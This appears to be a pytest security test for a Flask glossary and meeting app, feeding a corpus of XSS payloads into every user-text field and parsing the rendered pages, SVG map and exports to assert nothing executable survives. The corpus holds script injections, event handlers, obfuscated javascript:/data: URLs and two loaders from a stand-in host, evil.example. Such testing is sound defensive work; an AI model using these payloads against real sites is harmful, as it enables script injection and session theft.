"""An XSS corpus through every text a person can write, then every page that shows it, parsed.

Each corpus item goes into every field that holds user text — meeting title, terms, participant
and partner names, definitions with example and observable, questions and answers, the
restatement, vote reasons, the proposal with scope and examples, the override reason, meaning
labels, glossary entries (Markdown fields too), comments, an uploaded framework, CSV and JSON
imports, share-link and token labels — and every page that can show it is parsed with
BeautifulSoup: no script, event handler, dangerous URL, frame, object, embed or style may come
from the input. The meaning map (SVG) and the exports are checked too.
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup

from glossary import accounts
from tests.facilitator.conftest import NS, join_http, login
from tests.facilitator.hostile import EVENT_LIMITS, JOIN_LIMITS, without_limits

CORPUS = [
    '<script>alert("xss01")</script>',
    "<SCRIPT SRC=//evil.example/xss02.js></SCRIPT>",
    '<img src=x onerror=alert("xss03")>',
    '<svg onload=alert("xss04")>',
    '<svg><script>alert("xss05")</script></svg>',
    "<iframe src=\"javascript:alert('xss06')\"></iframe>",
    "<a href=\"javascript:alert('xss07')\">xss07</a>",
    "<a href=\"JaVaScRiPt:alert('xss08')\">xss08</a>",
    "<a href=\"&#106;avascript:alert('xss09')\">xss09</a>",
    "<a href=\"jav&#x09;ascript:alert('xss10')\">xss10</a>",
    "<a href=\" \tjavascript:alert('xss11')\">xss11</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">xss12</a>',
    "<a href=\"vbscript:msgbox('xss13')\">xss13</a>",
    "<a href=\"java\nscript:alert('xss14')\">xss14</a>",
    "<div style=\"background:url(javascript:alert('xss15'))\">xss15</div>",
    '<style>@import "//evil.example/xss16.css";</style>',
    "<object data=\"javascript:alert('xss17')\"></object>",
    "<embed src=\"javascript:alert('xss18')\">",
    '"><script>alert("xss19")</script>',
    "'><img src=x onerror=alert('xss20')>",
    '</textarea><script>alert("xss21")</script>',
    '</script><script>alert("xss22")</script>',
    '&lt;script&gt;alert("xss23")&lt;/script&gt;',
    '<body onload=alert("xss24")>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss25")>',
    "<base href=\"javascript:alert('xss26')//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('xss27')\">",
    "<form action=\"javascript:alert('xss28')\"><button>xss28</button></form>",
    '<input autofocus onfocus=alert("xss29")>',
    "[xss30](javascript:alert(1))",
    '[xss31](JAVASCRIPT:alert(1) "t")',
    '<javascript:alert("xss32")>',
    "[xss33][r]\n\n[r]: javascript:alert(1)",
    "![xss34](javascript:alert(1))",
    "![xss35](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[xss36](data:text/html,<script>alert(1)</script>)",
    "[xss37](vbscript:msgbox(1))",
    '<https://example.org/"onmouseover="alert(xss38)>',
    "[xss39](&#106;avascript:alert(1))",
    "[xss40](<javascript:alert(1)>)",
    '<iframe srcdoc="<script>alert(xss41)</script>">',
    '<svg><a xlink:href="javascript:alert(xss42)"><text>x</text></a></svg>',
    "{{ 7*7 }}xss43{% raw %}",
    "\u202exss44<script>alert(1)</script>",
]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "ping",
                  "cite", "codebase", "srcdoc", "manifest"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "style", "frame", "frameset", "applet", "base", "math", "portal"}
DANGEROUS_URL = re.compile(r"^(javascript|data|vbscript):")


def test_the_corpus_fits_every_field():
    assert len(CORPUS) <= 47 - 3  # one new partner per item; a partnership has at most 50, the world has 3
    assert all(len(item) <= 80 for item in CORPUS)  # the shortest limit: a participant's name
    assert len({item.casefold() for item in CORPUS}) == len(CORPUS)


def assert_no_injection(html: str, where: str) -> BeautifulSoup:
    """Nothing executable or embedding came from input: checked on the parsed document."""
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in FORBIDDEN_TAGS, (where, str(tag)[:200])
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), (where, str(tag)[:200])
            assert name.lower() != "style", (where, str(tag)[:200])
            if name.lower() in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", " ".join(value) if isinstance(value, list) else value).lower()
                assert not DANGEROUS_URL.match(url), (where, str(tag)[:200])
        if tag.name == "script":
            if tag.get("src"):
                assert tag["src"].startswith("/static/"), (where, str(tag)[:200])
            else:
                assert tag.get("type") == "application/json", (where, str(tag)[:200])
                json.loads(tag.string or "")  # still the template's data, not broken open
        if tag.name == "meta":
            assert "http-equiv" not in tag.attrs, (where, str(tag)[:200])
    return soup


def assert_shows_corpus(soup: BeautifulSoup, where: str) -> None:
    """The page did show user text (as text or an attribute's value, e.g. a form field), so the
    check above was not vacuous."""
    values = (str(v) for tag in soup.find_all(True) for v in tag.attrs.values())
    assert "xss" in soup.get_text() or any("xss" in v for v in values), where


@pytest.fixture
def app(app):
    return without_limits(app, *EVENT_LIMITS, *JOIN_LIMITS)


def call(screen, event, payload):
    ack = screen.emit(event, payload, namespace=NS, callback=True)
    assert ack["ok"], (event, payload, ack)
    return ack


def wait_for_background(app):
    app.extensions["samenspraak.background"].drain(timeout=180)


@pytest.fixture
def written(app, socketio, db, world):
    """Every corpus item written into every field, through the forms, the API and the sockets."""
    http = login(app.test_client())
    _row, token = accounts.create_api_token(db, "fien", "xss")
    api = app.test_client()

    def api_call(method, path, body=None):
        response = api.open(path, method=method, json=body, headers={"Authorization": f"Bearer {token}"})
        assert response.status_code < 300, response.get_data(as_text=True)[:500]
        return response.json

    pid = world.partnership_id
    # Partnerships, meetings, terms, partners (forms and API).
    for item in CORPUS[:6]:
        assert http.post("/partnerships", data={"name": item, "partners": "\n".join(CORPUS[:3])}).status_code == 302
    api_call("POST", "/api/partnerships", {"name": CORPUS[6], "partners": CORPUS})
    for start in range(0, len(CORPUS), 30):
        api_call("POST", f"/api/partnerships/{pid}/meetings", {"title": CORPUS[start], "terms": CORPUS[start:start + 30]})
    for item in CORPUS[1:4]:
        assert http.post(f"/partnerships/{pid}/meetings", data={"title": item, "terms": "\n".join(CORPUS[:25])}).status_code == 302
    assert http.post(f"/meetings/{world.meeting_id}/terms", data={"terms": "\n".join(CORPUS[:25])}).status_code == 302
    assert http.post(f"/partnerships/{pid}/partners", data={"name": "Extra " + CORPUS[0]}).status_code == 302
    for item in CORPUS[:3]:
        assert http.post("/account", data={"label": item}).status_code == 200

    # The live meeting (its title from the corpus): every person named and with a partner from the corpus.
    live = api_call("POST", f"/api/partnerships/{pid}/meetings", {"title": CORPUS[7], "terms": CORPUS[:3]})["meeting"]
    code = live["code"]
    facilitator = socketio.test_client(app, namespace=NS, auth={"meeting": code, "view": "facilitator"}, flask_test_client=http)
    people = []
    for item in CORPUS:
        phone = join_http(app, code, item, item)
        people.append((phone, socketio.test_client(app, namespace=NS, auth={"meeting": code}, flask_test_client=phone)))
    term = CORPUS[0]
    round_id = call(facilitator, "start_round", {"term": term})["round"]["id"]
    # Fifteen definitions keep the meaning analysis quick; with example and observable every item is in one of them.
    writers = people[:15]
    definition_ids = []
    for index, (_phone, screen) in enumerate(writers):
        ack = call(screen, "submit_definition", {"client_id": uuid.uuid4().hex, "text": CORPUS[index], "example": CORPUS[index + 15],
                                                 "observable": CORPUS[(index + 30) % len(CORPUS)]})
        definition_ids.append(ack["definition"]["id"])
    call(facilitator, "reveal", {"round_id": round_id})
    wait_for_background(app)
    analysis = call(facilitator, "get_state", {})["state"]["analysis"]
    for meaning, item in zip(analysis["meanings"], CORPUS):
        call(facilitator, "correct_meanings", {"round_id": round_id, "action": "rename", "meaning_id": meaning["id"], "label": item})
    call(facilitator, "start_discussion", {"round_id": round_id})
    for index, ((_phone, screen), item) in enumerate(zip(people, CORPUS)):
        author = (index + 1) % len(writers)
        call(screen, "react", {"definition_id": definition_ids[author], "kind": "herken"})
        if author != index:
            question = call(screen, "ask_question", {"definition_id": definition_ids[author], "text": item})["question_id"]
            call(writers[author][1], "answer_question", {"question_id": question, "text": CORPUS[-1 - index]})
    call(facilitator, "start_listening_check", {"round_id": round_id})
    for (_phone, screen), item in zip(writers, reversed(CORPUS)):
        call(screen, "restate", {"text": item})
    proposal = call(facilitator, "propose", {"round_id": round_id, "text": "\n\n".join(CORPUS)[:2000],
                                             "scope": "\n".join(CORPUS)[:1000], "examples": CORPUS[:20]})["proposal"]
    for (_phone, screen), item in zip(people, CORPUS):
        call(screen, "vote", {"proposal_id": proposal["id"], "choice": "bezwaar", "reason": item})
    adopted = call(facilitator, "adopt", {"round_id": round_id, "override_reason": CORPUS[-1],
                                          "not_to_confuse_with": [analysis["meanings"][-1]["id"]]})

    # Revisit the adopted entry in the same meeting, so that its page shows drift with the new texts.
    revisit = http.post(f"/partnerships/{pid}/glossary/{adopted['entry_id']}/revisit", data={"meeting_id": str(live["id"])})
    assert revisit.status_code == 302
    again = call(facilitator, "start_round", {"term": term})["round"]["id"]
    for (_phone, screen), item in zip(people[:8], reversed(CORPUS)):
        call(screen, "submit_definition", {"client_id": uuid.uuid4().hex, "text": item})
    call(facilitator, "reveal", {"round_id": again})
    wait_for_background(app)

    # The glossary: entries through the API and the form, edits, comments.
    entry_ids = []
    for item in CORPUS[1:]:
        body = {"term": item, "definition": item, "scope": item, "notes": item, "examples": [item], "synonyms": [item],
                "not_to_confuse_with": [item], "condition_ids": ["1.3"], "change_note": item,
                "status": "vastgesteld"}  # agreed, so that the share link's pages show them too
        entry_ids.append(api_call("POST", f"/api/partnerships/{pid}/glossary", body)["entry"]["id"])
    form = {"term": "Formulier " + CORPUS[0], "definition": "\n\n".join(CORPUS), "scope": CORPUS[32], "notes": CORPUS[29],
            "examples": "\n".join(CORPUS[:18]), "synonyms": "\n".join(CORPUS[:18]), "not_to_confuse_with": CORPUS[3],
            "status": "concept", "change_note": CORPUS[0]}
    assert http.post(f"/partnerships/{pid}/glossary/new", data=form).status_code == 302
    edited = {**form, "definition": CORPUS[33], "notes": CORPUS[35], "base_version": "1", "status": "vastgesteld"}
    assert http.post(f"/partnerships/{pid}/glossary/{entry_ids[0]}/edit", data={**edited, "term": CORPUS[1]}).status_code == 302
    for item in CORPUS:
        assert http.post(f"/partnerships/{pid}/glossary/{entry_ids[0]}/comments", data={"body": item}).status_code == 302
        api_call("POST", f"/api/partnerships/{pid}/glossary/{entry_ids[1]}/comments", {"body": item})
    conflict = http.post(f"/partnerships/{pid}/glossary/{entry_ids[0]}/edit", data={**edited, "term": CORPUS[1], "base_version": "1"})
    assert conflict.status_code == 409

    # Share links and their labels.
    tokens = []
    for item in CORPUS[:3]:
        created = api_call("POST", f"/api/partnerships/{pid}/glossary/share-links", {"label": item})
        tokens.append(created["share_link"]["url"].rsplit("/g/", 1)[1])
    assert http.post(f"/partnerships/{pid}/glossary/share", data={"label": CORPUS[4]}).status_code == 200

    return {"http": http, "api_call": api_call, "pid": pid, "round_id": round_id, "second_round": again,
            "entry_ids": entry_ids, "adopted": adopted["entry_id"], "tokens": tokens, "people": people, "world": world,
            "meeting_id": live["id"], "code": code}


def pages_of(written) -> list[str]:
    pid, world, entry_ids = written["pid"], written["world"], written["entry_ids"]
    base = f"/partnerships/{pid}/glossary"
    shared = f"/g/{written['tokens'][0]}"
    return [
        "/", f"/partnerships/{pid}", f"/meetings/{written['meeting_id']}", f"/meetings/{written['meeting_id']}/projector",
        f"/meetings/{world.meeting_id}", f"/meetings/{written['meeting_id']}/summary",
        "/account", base, f"{base}?by=framework", f"{base}?by=status", f"{base}?q=xss", f"{base}?q=xss&partial=1",
        f"{base}/{written['adopted']}", f"{base}/{written['adopted']}/diff?from=1&to=2",
        f"{base}/{entry_ids[0]}", f"{base}/{entry_ids[0]}/diff?from=1&to=2", f"{base}/{entry_ids[0]}/edit",
        f"{base}/{entry_ids[1]}", f"{base}/framework", f"{base}/print", f"{base}/share", f"{base}/import",
        f"{base}/new?term={quote(CORPUS[0])}", shared, f"{shared}?by=framework", f"{shared}/{entry_ids[0]}",
        f"{shared}/{written['adopted']}", f"{shared}/{entry_ids[0]}/diff?from=1&to=2", f"{shared}/framework", f"{shared}/print",
    ] + [f"{base}/{entry_id}" for entry_id in entry_ids[2:]]


def no_page_runs_or_embeds_what_people_wrote(written, app):
    http = written["http"]
    for path in pages_of(written):
        response = http.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert response.mimetype == "text/html"
        soup = assert_no_injection(response.get_data(as_text=True), path)
        if path != f"/partnerships/{written['pid']}/glossary/import":
            assert_shows_corpus(soup, path)


def the_participant_join_and_error_pages_escape_what_they_echo(written, app):
    code = written["code"]
    phone = written["people"][0][0]
    joined = phone.get(f"/m/{code}")
    assert_no_injection(joined.get_data(as_text=True), "participant page")
    join_page = app.test_client().get(f"/j/{code}")
    assert_shows_corpus(assert_no_injection(join_page.get_data(as_text=True), "join page"), "join page")  # the partner list
    for item in CORPUS:
        wrong_code = app.test_client().post("/join", data={"code": item}, environ_base={"REMOTE_ADDR": f"10.1.{len(item)}.1"})
        assert_no_injection(wrong_code.get_data(as_text=True), f"join code {item!r}")
        taken = app.test_client().post(f"/j/{code}", data={"name": item, "partner": item})
        assert taken.status_code == 409
        assert_no_injection(taken.get_data(as_text=True), f"taken name {item!r}")
        login_page = app.test_client().get("/login", query_string={"next": item})
        assert_no_injection(login_page.get_data(as_text=True), "login next")
    duplicate = written["http"].post(f"/partnerships/{written['pid']}/glossary/new", data={"term": CORPUS[5], "definition": "x"})
    assert duplicate.status_code == 409
    assert_shows_corpus(assert_no_injection(duplicate.get_data(as_text=True), "duplicate term"), "duplicate term")


def uploaded_framework_and_imports_are_shown_escaped(written, app):
    http, pid = written["http"], written["pid"]
    base = f"/partnerships/{pid}/glossary"
    rows = [{"term": "Import " + item, "definition": item, "scope": item, "notes": item, "examples": [item],
             "synonyms": [item], "status": "concept"} for item in CORPUS]
    bad_rows = [{"term": item, "definition": "", "status": item} for item in CORPUS]
    for content in (json.dumps({"entries": rows}), json.dumps({"entries": bad_rows})):
        preview = http.post(f"{base}/import", data={"content": content, "format": "json"})
        assert preview.status_code == 200
        assert_shows_corpus(assert_no_injection(preview.get_data(as_text=True), "import preview"), "import preview")
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["begrip", "definitie", "toelichting", "voorwaarden"])
    for item in CORPUS:
        writer.writerow(["Csv " + item, item, item, item])
    preview = http.post(f"{base}/import", data={"content": buffer.getvalue(), "format": "csv"})
    assert_shows_corpus(assert_no_injection(preview.get_data(as_text=True), "csv preview"), "csv preview")
    applied = http.post(f"{base}/import", data={"content": json.dumps({"entries": rows}), "format": "json", "action": "apply"})
    assert applied.status_code == 302
    framework = {"id": "eigen", "name": CORPUS[0], "description": CORPUS[1], "domains": [
        {"id": str(d + 1), "name": CORPUS[d], "conditions": [
            {"id": f"{d + 1}.{c + 1}", "name": CORPUS[(d * 9 + c) % len(CORPUS)], "description": CORPUS[(d * 9 + c + 1) % len(CORPUS)]}
            for c in range(9)]} for d in range(5)]}
    uploaded = http.post(f"{base}/framework", data={"file": (io.BytesIO(json.dumps(framework).encode()), "eigen.json")},
                         content_type="multipart/form-data", follow_redirects=True)
    assert uploaded.status_code == 200
    assert_shows_corpus(assert_no_injection(uploaded.get_data(as_text=True), "framework page"), "framework page")
    for path in (base, f"{base}?by=framework", f"{base}/print", f"/g/{written['tokens'][0]}/framework"):
        assert_shows_corpus(assert_no_injection(http.get(path).get_data(as_text=True), path), path)


def the_meaning_map_has_no_script_or_handler(written, app):
    response = written["http"].get(f"/m/{written['code']}/rounds/{written['round_id']}/map.svg")
    assert response.status_code == 200 and response.mimetype == "image/svg+xml"
    svg = response.get_data(as_text=True)
    soup = assert_no_injection(svg, "map.svg")
    assert not soup.find("foreignobject") and not soup.find("script")
    assert "xss" in soup.get_text()  # the renamed meanings are in the map's labels, as text


def exports_are_downloads_that_no_browser_renders_as_a_page(written, app):
    http, pid = written["http"], written["pid"]
    for fmt, mimetype in (("md", "text/markdown"), ("csv", "text/csv"), ("json", "application/json"), ("ttl", "text/turtle")):
        for path in (f"/partnerships/{pid}/glossary/export.{fmt}", f"/g/{written['tokens'][0]}/export.{fmt}"):
            response = http.get(path)
            assert response.status_code == 200 and response.mimetype == mimetype, path
            assert response.headers["Content-Disposition"].startswith("attachment;")
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert "xss" in response.get_data(as_text=True)


def live_payloads_carry_the_text_as_written_for_text_nodes(written, app):
    """Socket payloads are data, not markup: the screens put them in text nodes (static/js/live.js
    ``el``), so they arrive unchanged — not escaped twice, not stripped."""
    _phone, screen = written["people"][1]
    state = call(screen, "get_state", {})["state"]
    texts = {d["text"] for d in state["definitions"]}
    assert set(reversed(CORPUS[-8:])) <= texts | set(CORPUS)
    assert state["me"]["name"] == CORPUS[1].replace("\n", "")


def test_the_corpus_through_every_field_and_every_page(written, app):
    """One setup (writing everything takes half a minute), then every kind of page in turn;
    the live payloads last, because the uploads and imports do not touch them."""
    live_payloads_carry_the_text_as_written_for_text_nodes(written, app)
    no_page_runs_or_embeds_what_people_wrote(written, app)
    the_participant_join_and_error_pages_escape_what_they_echo(written, app)
    the_meaning_map_has_no_script_or_handler(written, app)
    exports_are_downloads_that_no_browser_renders_as_a_page(written, app)
    uploaded_framework_and_imports_are_shown_escaped(written, app)
